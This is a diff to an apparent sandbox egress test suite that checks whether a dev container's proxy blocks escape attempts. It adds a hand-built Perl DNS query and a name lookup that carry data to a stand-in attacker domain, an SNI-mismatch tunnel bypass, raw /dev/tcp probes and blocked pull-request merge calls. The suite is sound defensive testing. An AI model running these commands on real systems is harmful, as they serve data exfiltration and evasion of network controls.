@@ -49,6 +49,21 @@ def perl_socket(family: int, kind: int, protocol: int) -> str:
 OWNER = "workspace-owner"
 
 
+# A hand-made DNS query for an exfiltration name, straight to the engine's own resolver
+# address (Docker's embedded DNS listens on 127.0.0.11 in every user-network container).
+DNS_QUERY = (
+    "perl -MSocket -e '"
+    'socket(my $s, PF_INET, SOCK_DGRAM, 0) or die "socket: $!\\n"; '
+    'my $q = pack("n6", 0x1234, 0x0100, 1, 0, 0, 0) . join("", map { chr(length) . $_ } '
+    'split /\\./, "exfil-secret.attacker.test") . "\\0" . pack("n2", 1, 1); '
+    'send($s, $q, 0, pack_sockaddr_in(53, inet_aton("127.0.0.11"))) or die "send: $!\\n"; '
+    'local $SIG{ALRM} = sub { print "no answer\\n"; exit }; alarm 3; my $r; '
+    'defined(recv($s, $r, 512, 0)) or do { print "no answer: $!\\n"; exit }; '
+    'my ($id, $flags, $qd, $an) = unpack("n4", $r); '
+    'printf "rcode=%d answers=%d\\n", $flags & 15, $an;\''
+)
+
+
 @dataclass(frozen=True)
 class Attempt:
     name: str
@@ -59,6 +74,8 @@ class Attempt:
     user: str = "vscode"
 
 
+# A passthrough tunnel: the app gets the upstream's own certificate, not the proxy's.
+PINNED = f"{CURL} --cacert /workspaces/sample-project/upstream-ca.pem https://pinned.test/"
 TWIN_HTTP = Attempt("", "", "", f"{CURL} http://allowed.test/", OK)
 TWIN_HTTPS = Attempt("", "", "", f"{CURL} https://allowed.test/", OK)
 
@@ -83,6 +100,8 @@ ATTEMPTS = [
     Attempt("tcp-to-the-host-on-the-bridge", "exec 3<>/dev/tcp/{gateway}/22", UNROUTABLE,
             "exec 3<>/dev/tcp/{proxy_ip}/8080 && echo connected", r"connected"),
     Attempt("external-name-lookup", "getent hosts allowed.test; echo rc=$?", r"^rc=2",
+            "getent hosts proxy", r"{proxy_ip}\s+proxy"),
+    Attempt("dns-query-to-the-engines-resolver", DNS_QUERY, r"^(no answer|rcode=\d+ answers=0)",
             "getent hosts proxy", r"{proxy_ip}\s+proxy"),
     Attempt("exfiltration-by-dns-name", "getent hosts secret-data.attacker.test; echo rc=$?",
             r"^rc=2", "getent hosts proxy", r"{proxy_ip}\s+proxy"),
@@ -129,6 +148,21 @@ ATTEMPTS = [
           r"answer: \S+ 40[03]"),
     _like(TWIN_HTTP, "origin-form-request-to-the-proxy",
           raw_http("GET / HTTP/1.1", "blocked.test"), r"answer: \S+ 40[03]"),
+    # --- passthrough entries: uninspected, yet the CONNECT host, port and SNI hold ---
+    Attempt("sni-differs-on-a-passthrough-tunnel",
+            f"{CURL} https://blocked.test/ --connect-to blocked.test:443:pinned.test:443",
+            DENIED, PINNED, OK),
+    Attempt("passthrough-host-on-another-port", f"{CURL} -p http://pinned.test:8443/", DENIED,
+            PINNED, OK),
+    # --- pull-request merges, refused on the (stand-in) GitHub host -----------------
+    Attempt("merge-a-pull-request-over-rest",
+            f"{CURL} -X PUT https://api.allowed.test/repos/o/r/pulls/1/merge", DENIED,
+            f"{CURL} -X PUT https://api.allowed.test/repos/o/r/contents/notes.md", OK),
+    Attempt("merge-a-pull-request-over-graphql",
+            f"{CURL} -d '{{\"query\": \"mutation {{ mergePullRequest(input: {{}}) {{ x }} }}\"}}'"
+            " https://api.allowed.test/graphql", DENIED,
+            f"{CURL} -d '{{\"query\": \"query {{ viewer {{ login }} }}\"}}'"
+            " https://api.allowed.test/graphql", OK),
     # --- the enforcement itself -----------------------------------------------------
     Attempt("proxy-admin-and-other-ports",
             f"for p in 8081 9090 22; do {CURL} --noproxy '*' http://proxy:$p/; done; echo end",
